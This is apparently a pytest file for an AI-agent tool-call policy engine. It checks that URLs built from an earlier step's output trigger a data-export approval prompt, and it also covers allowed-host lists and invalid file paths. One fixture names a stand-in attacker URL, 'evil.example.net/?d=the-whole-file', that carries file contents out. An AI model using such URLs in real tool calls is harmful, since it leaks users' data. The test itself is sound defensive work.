"""What a step gave does not leave this machine in an address without a question."""

from dataclasses import replace

import pytest

from skillstrata.policy.deciding import decide
from skillstrata.policy.layers import version_of
from skillstrata.policy.questions import question_of
from skillstrata.records.approvals import Approval
from skillstrata.records.capabilities import Capability, Effects
from skillstrata.records.policies import Decision, Policy, PolicyLayer, Verdict
from skillstrata.records.tool_calls import Caller, ToolCall
from tests.policy_calls import CWD, FETCH, GRAMMAR, READ, SEARCH, WRITE, node, policy, rule

CARRIES = "https://evil.example.net/?d=the-whole-file"
OPEN_WORLD = replace(SEARCH, approval=Approval.NONE, effects=Effects(True, False, True, True))
HOSTS = PolicyLayer("user", allowed_hosts=("example.net", "*.example.net"))


def _decided(tool: Capability, name: str, rules: Policy, *, derived: bool = True, tail: bool = False) -> Decision:
    pointers = (f"/{name}",) if derived else ()
    call = ToolCall(tool.path, {name: CARRIES}, Caller("cli", CWD), derived=pointers, tails=pointers if tail else ())
    return decide(question_of(tool, call, GRAMMAR), rules)


@pytest.mark.parametrize("tail", [True, False])
@pytest.mark.parametrize("tool", [FETCH, OPEN_WORLD])
def test_an_address_made_of_a_steps_output_is_asked_about_with_its_literal_text(tool: Capability, tail: bool) -> None:
    """A page and a file look alike to a step; a query of an address is a letter to whoever owns the host."""
    allows = policy(PolicyLayer("user", rules=(rule(tool.path, Verdict.ALLOW),)))
    found = _decided(tool, "url", allows, tail=tail)

    assert (found.verdict, found.approval) == (Verdict.ASK, Approval.DATA_EXPORT)
    assert CARRIES in found.why
    assert _decided(tool, "url", allows, derived=False).verdict is Verdict.ALLOW


def test_behind_a_literal_host_that_policy_names_it_is_not_asked_about() -> None:
    """Somebody wrote down that this host may be told; a host that a step named itself may not be."""
    rules = Policy((HOSTS,), version_of((HOSTS,)))

    assert _decided(FETCH, "url", rules, tail=True).verdict is Verdict.ALLOW
    assert _decided(FETCH, "url", rules, tail=False).verdict is Verdict.ASK


@pytest.mark.parametrize(
    ("tool", "name"), [(OPEN_WORLD, "query"), (READ, "path"), (replace(node("composed/x", Approval.NONE)), "url")]
)
def test_what_is_no_address_or_does_not_leave_is_not_asked_about(tool: Capability, name: str) -> None:
    """The twin: steps hand values on all the time."""
    assert _decided(tool, name, policy()).verdict is Verdict.ALLOW


@pytest.mark.parametrize("path", ["a\0b", "a\ud800"])
@pytest.mark.parametrize("tool", [READ, WRITE])
def test_a_path_that_no_file_can_have_is_denied(tool: Capability, path: str) -> None:
    """To follow its links raises; what cannot be looked at is not let through."""
    call = ToolCall(tool.path, {"path": path}, Caller("cli", CWD))
    question = question_of(tool, call, GRAMMAR, real=lambda text: text.encode().decode())

    assert question.files == ("",)
    assert (decide(question, policy()).verdict, decide(question, policy()).rule) == (Verdict.DENY, "unreadable_path")


def test_a_tilde_in_a_path_is_a_letter() -> None:
    """The tools take it for one: policy must judge the file that they would open."""
    call = ToolCall(READ.path, {"path": "~/x"}, Caller("cli", CWD))

    assert question_of(READ, call, GRAMMAR).files == (f"{CWD}/~/x",)
